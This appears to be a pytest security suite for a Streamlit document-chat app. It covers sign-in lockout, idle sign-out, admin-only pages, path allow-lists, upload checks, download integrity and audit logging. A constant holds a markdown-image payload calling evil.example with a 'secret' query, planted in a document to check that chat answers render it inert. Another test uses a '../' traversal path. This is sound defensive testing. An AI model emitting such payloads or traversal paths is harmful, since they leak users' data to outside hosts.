"""The app's defences, driven through ``AppTest``: who gets in, what a signed-out tab keeps, what is
served, what an upload or a typed server path may do, and how document and model text is rendered."""
from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from apptest import add_users, no_errors, plain, sign_in, start
from ui.context import LAST_SEEN_KEY
from zhiku.kb import KnowledgeBase
from zhiku.models import Embedder
from zhiku.records import Chunk, Document

INJECTED = "![x](http://evil.example/?q=secret)"


def button(at: AppTest, key_prefix: str):
    return at.button(key=next(b.key for b in at.button if (b.key or "").startswith(key_prefix)))


def ask(at: AppTest, question: str) -> AppTest:
    return at.chat_input[0].set_value(question).run()


# ------------------------------------------------------------------------------------- who gets in
def test_with_require_sign_in_and_no_users_nobody_gets_in_and_the_page_says_how_to_add_an_admin(
    ui_kb: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ZHIKU_REQUIRE_SIGN_IN", "true")
    at = start()
    assert not at.exception and not at.chat_input and not at.text_input
    assert "zhiku user add NAME --groups admin" in at.warning[0].value
    at.switch_page("views/documents.py").run()  # no navigation offers it: the same page again
    assert not at.dataframe and not at.exception and "zhiku user add" in at.warning[0].value


def test_sign_out_clears_the_whole_session_so_the_next_user_sees_no_earlier_chat(ui_kb: Path) -> None:
    add_users(ui_kb)
    at = sign_in(start(), "ada", "ada-password")
    ask(at, "How much do senior engineers at Acme Robotics earn?")
    assert at.chat_message and at.session_state["chat_turns"]
    at.sidebar.button(key="sign-out").click().run()
    assert at.button[0].label == "Sign in" and not at.chat_message
    assert "chat_turns" not in at.session_state and "zhiku_user" not in at.session_state
    sign_in(at, "bob", "bob-password")
    no_errors(at)
    assert not at.chat_message and "120000" not in " ".join(m.value for m in at.markdown)


def test_a_session_idle_longer_than_the_setting_is_signed_out(ui_kb: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ZHIKU_SESSION_IDLE_MINUTES", "30")
    add_users(ui_kb)
    at = sign_in(start(), "bob", "bob-password")
    ask(at, "Who founded Acme Robotics?")
    at.session_state[LAST_SEEN_KEY] = time.time() - 29 * 60
    assert at.run().chat_message  # still inside the idle limit
    at.session_state[LAST_SEEN_KEY] = time.time() - 31 * 60
    at.run()
    assert at.button[0].label == "Sign in" and not at.chat_message
    assert "signed out after 30 minutes" in at.info[0].value and "chat_turns" not in at.session_state


def test_repeated_wrong_passwords_lock_the_sign_in_with_a_clear_message(ui_kb: Path) -> None:
    add_users(ui_kb)
    at = start()
    for _ in range(5):
        sign_in(at, "bob", "not-bobs-password")
    sign_in(at, "bob", "bob-password")
    assert "too many failed sign-ins for 'bob'" in plain(at.error[0].value).lower() and not at.chat_input


# ------------------------------------------------------------------------------------- admins only
def test_evaluation_and_ingest_pages_are_hidden_from_non_admins(ui_kb: Path) -> None:
    add_users(ui_kb)
    at = sign_in(start(), "bob", "bob-password")
    for page in ("views/evaluation.py", "views/ingest.py"):
        with pytest.raises(ValueError, match="Could not find a navigation page"):
            at.switch_page(page)


def test_server_folder_ingest_is_off_without_an_allow_list_and_refuses_paths_outside_it(
    ui_kb: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = start().switch_page("views/ingest.py").run()
    assert not at.text_area and any("ui_ingest_roots" in c.value for c in at.caption)
    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
    allowed.mkdir()
    outside.mkdir()
    (outside / "secret.md").write_text("# Secret\n\nNot for the knowledge base.\n", encoding="utf-8")
    monkeypatch.setenv("ZHIKU_UI_INGEST_ROOTS", str(allowed))
    at = start().switch_page("views/ingest.py").run()
    for path in (outside, allowed / ".." / "outside"):
        at.text_area(key="ingest_paths").input(str(path))
        at.button(key="ingest_start").click().run()
        assert "outside the folders allowed" in at.error[0].value and not at.metric
    with KnowledgeBase.open(ui_kb, "minilm") as kb:
        assert not kb.find_documents("secret")


def test_evaluation_runs_only_on_datasets_inside_the_allow_list(
    ui_kb: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    dataset = outside / "questions.jsonl"
    dataset.write_text(json.dumps({"id": "q", "query": "hotel", "relevant": ["travel-policy.md"]}) + "\n")
    at = start().switch_page("views/evaluation.py").run()
    assert "eval_dataset" not in [t.key for t in at.text_input]  # no allow-list: no runs from the page
    assert any("ui_ingest_roots" in c.value for c in at.caption)
    monkeypatch.setenv("ZHIKU_UI_INGEST_ROOTS", str(tmp_path / "allowed"))
    (tmp_path / "allowed").mkdir()
    at = start().switch_page("views/evaluation.py").run()
    at.text_input(key="eval_dataset").input(str(dataset))
    at.button[[b.label for b in at.button].index("Run")].click().run()
    assert "outside the folders allowed" in plain(at.error[0].value)
    at.text_input(key="eval_roots").input(str(outside)).run()
    assert "outside the folders allowed" in at.error[0].value  # report folders are fenced in too


# ------------------------------------------------------------------------------------- uploads
def test_uploads_with_the_same_name_never_overwrite_and_an_acl_file_is_refused(ui_kb: Path) -> None:
    at = start().switch_page("views/ingest.py").run()
    at.file_uploader(key="ingest_uploads").set_value([
        ("zhiku-acl.toml", b'"**" = ["hr"]\n', "application/toml"),
        ("notes.md", b"# Notes\n\nThe canteen opens at eight.\n", "text/markdown"),
    ])
    at.button(key="ingest_start").click().run(timeout=300)
    assert "zhiku-acl.toml was not accepted" in plain(at.warning[0].value)
    assert {m.label: m.value for m in at.metric}["Added"] == "1"
    at.file_uploader(key="ingest_uploads").set_value(
        ("notes.md", b"# Notes\n\nThe canteen opens at nine.\n", "text/markdown"))
    at.button(key="ingest_start").click().run(timeout=300)
    assert not at.exception
    saved = sorted((ui_kb / "uploads").glob("*/notes.md"))
    assert len(saved) == 2 and {p.read_text() for p in saved} == {
        "# Notes\n\nThe canteen opens at eight.\n", "# Notes\n\nThe canteen opens at nine.\n"}
    assert not list((ui_kb / "uploads").rglob("zhiku-acl.toml"))
    with KnowledgeBase.open(ui_kb, "minilm") as kb:
        assert [kb.get_document(str(p.resolve())).groups for p in saved] == [("*",), ("*",)]


def test_an_upload_over_the_size_limit_is_refused(ui_kb: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ZHIKU_UPLOAD_MAX_MB", "1")
    at = start().switch_page("views/ingest.py").run()
    at.file_uploader(key="ingest_uploads").set_value(("big.txt", b"word " * 220_000, "text/plain"))
    at.button(key="ingest_start").click().run()
    assert "over the upload limit of 1 MiB" in plain(at.warning[0].value) and not at.metric
    assert not (ui_kb / "uploads").exists() or not list((ui_kb / "uploads").rglob("big.txt"))


# ------------------------------------------------------------------------------------- rendering
def rendered_html(at: AppTest) -> str:
    """Every markdown-bearing element of the page, rendered as a CommonMark renderer would."""
    md = MarkdownIt("commonmark")
    texts = [e.value for e in (*at.markdown, *at.caption, *at.subheader, *at.title, *at.warning, *at.info)]
    texts += [e.label for e in at.expander] + [b.label for b in at.button]
    return "\n".join(md.render(t) for t in texts)


def test_an_injected_image_in_a_document_and_its_answer_renders_as_text(ui_kb: Path, embedder: Embedder) -> None:
    path = ui_kb.parent / "files-evil.md"
    text = f"Quarterly parking rules {INJECTED} apply to every visitor."
    path.write_text(text, encoding="utf-8")
    with KnowledgeBase.open(ui_kb, "minilm") as kb:
        chunk = Chunk(text=text, position=0, n_tokens=9, heading_path=(f"Parking {INJECTED}",))
        kb.put_document(Document(source=str(path), content_hash="x", title=f"Parking {INJECTED}", kind="md"),
                        [chunk], embedder.embed([text]))
        kb.save_vectors()
    at = start()
    at.sidebar.selectbox(key="chat_mode").select("keyword")
    ask(at, "What are the quarterly parking rules for visitors?")
    no_errors(at)
    html = rendered_html(at)
    assert "evil.example" in html and "<img" not in html and "<a " not in html
    at.switch_page("views/documents.py").run()
    at.selectbox(key="documents_open").set_value(_doc_id(ui_kb, str(path))).run()
    button(at, "summarize-").click().run()
    no_errors(at)
    html = rendered_html(at)
    assert "evil.example" in html and "<img" not in html and "<a " not in html


def _doc_id(kb: Path, source: str) -> int:
    with KnowledgeBase.open(kb, "minilm") as opened:
        return opened.get_document(source).id


# ------------------------------------------------------------------------------------- downloads
def test_download_serves_the_checked_file_and_is_refused_once_the_file_changed_on_disk(ui_kb: Path) -> None:
    at = start()
    ask(at, "How much can I spend on a hotel in Berlin?")
    button(at, "download-0-0-1").click().run()
    [save] = at.get("download_button")
    assert "travel" in save.label
    with KnowledgeBase.open(ui_kb, "minilm") as kb:
        [(user, detail)] = kb.query("SELECT user, detail FROM audit WHERE event = 'download'")
    assert user == "local" and json.loads(detail)["ok"] and json.loads(detail)["source"].endswith("travel-policy.md")
    source = Path(_source(ui_kb, "Travel policy"))
    source.write_text(source.read_text(encoding="utf-8") + "\nHotels: 999 euros.\n", encoding="utf-8")
    button(at, "download-0-0-1").click().run()
    assert not at.get("download_button")
    assert "changed on disk since it was ingested" in plain(at.warning[0].value)


def test_download_is_refused_to_a_user_who_lost_access_to_the_document(ui_kb: Path) -> None:
    add_users(ui_kb)
    at = sign_in(start(), "bob", "bob-password")
    ask(at, "How much can I spend on a hotel in Berlin?")
    with KnowledgeBase.open(ui_kb, "minilm") as kb:
        kb.set_groups(_source(ui_kb, "Travel policy"), ("hr",))
    button(at, "download-0-0-1").click().run()
    assert not at.get("download_button") and "no longer available to you" in plain(at.warning[0].value)
    with KnowledgeBase.open(ui_kb, "minilm") as kb:
        rows = kb.query("SELECT user, detail FROM audit WHERE event = 'download'")
    assert [(r[0], json.loads(r[1])["ok"]) for r in rows] == [("bob", False)]


def _source(kb: Path, title: str) -> str:
    with KnowledgeBase.open(kb, "minilm") as opened:
        return next(d.source for d in opened.documents() if d.title == title)


def test_questions_asked_in_the_chat_are_audited_with_user_and_mode(ui_kb: Path) -> None:
    at = start()
    at.sidebar.selectbox(key="chat_mode").select("keyword")
    ask(at, "Who founded Acme Robotics?")
    with KnowledgeBase.open(ui_kb, "minilm") as kb:
        rows = kb.query("SELECT user, detail FROM audit WHERE event = 'question'")
    assert [(r[0], json.loads(r[1])) for r in rows] == [
        ("local", {"mode": "keyword", "surface": "ui", "question": "Who founded Acme Robotics?"})]
